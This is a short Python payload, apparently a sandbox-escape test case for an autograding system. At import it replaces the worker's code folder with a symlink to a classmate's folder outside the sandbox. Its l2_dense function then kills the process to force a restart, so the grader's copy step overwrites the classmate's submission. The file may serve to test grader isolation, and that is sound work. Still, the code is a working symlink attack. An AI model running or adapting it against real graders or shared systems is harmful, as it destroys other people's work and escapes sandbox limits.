# Payload: like symlink_file, one level up: at import, move the worker's code folder away
# and put a symlink to the classmate's folder (outside the sandbox) in its place, so that a
# grading process that copies the source "into the code folder" at the next restart writes
# over the classmate's submission. l2_dense() crashes to force the restart: 28.
import os as _os
import time as _time

_code = _os.getcwd()
_scratch = _os.path.dirname(_code)
_link = _os.path.join(_scratch, "code")
try:  # at every start: each restart is another chance
    if not _os.path.islink(_link):
        if _os.path.isdir(_link):
            _os.rename(_link, _os.path.join(_scratch, f"code-moved-{_time.time_ns()}"))
        _os.symlink(_os.path.dirname("@@VICTIM@@"), _link)
except OSError as _exc:
    print("symlink_dir:", type(_exc).__name__)


def l2_dense(units, l2=0.01, activation="relu"):
    _os._exit(0)
